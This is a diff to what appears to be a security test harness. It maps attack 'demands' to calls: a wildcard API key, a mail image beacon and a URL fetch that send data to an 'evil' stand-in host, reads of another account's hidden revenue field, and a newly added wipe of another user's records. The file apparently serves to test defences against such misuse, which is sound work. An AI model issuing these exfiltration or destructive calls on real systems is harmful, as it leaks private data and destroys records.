@@ -38,6 +38,10 @@ const demands: Readonly<Record<string, (targets: Targets) => Demand>> = {
   'create an API key': () => graph('mutation { apiKeyCreate(input: {name: "x", scopes: ["*"]}) { id secret } }'),
   'send a mail': ({ evil }) =>
     graph(`mutation { smartEmailDraftCreate(input: {subject: "x", bodyHtml: "<img src='${evil}'>"}) { id } }`),
+  'run an action that changes something': ({ otherId }) =>
+    call('action_wipe_records', { recordId: otherId, input: { text: 'all' } }),
+  'send what was read by an action that reads': ({ otherId }) =>
+    call('action_look_up', { recordId: otherId, input: { text: 'Quiet Harbour has SECRET' } }),
   'fetch a URL': ({ evil }) => call('fetch', { url: `${evil}/?d=secret` }),
   'show a hidden field': ({ otherId }) => graph(`{ account(id: "${otherId}") { name annualRevenue } }`),
   'sum a hidden field': () => call('ask', { intent: 'SUM', object: 'account', measure: 'annualRevenue' }),
